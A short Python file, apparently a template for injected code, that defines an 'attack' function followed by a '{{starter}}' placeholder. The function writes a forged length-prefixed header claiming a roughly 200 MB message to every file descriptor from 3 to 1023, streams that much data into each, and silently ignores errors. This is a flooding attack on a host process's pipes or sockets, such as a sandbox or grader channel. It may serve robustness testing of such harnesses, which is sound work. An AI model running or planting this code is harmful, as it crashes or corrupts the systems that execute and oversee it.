import os
import struct


def attack(*_):
    n = 200_000_000
    head = struct.pack("<I", n + 6) + b"\x02\x06" + struct.pack("<I", n)
    block = bytes(1 << 20)
    for fd in range(3, 1024):
        try:
            os.write(fd, head)
            for _ in range(n // len(block) + 1):
                os.write(fd, block)
        except OSError:
            pass


{{starter}}
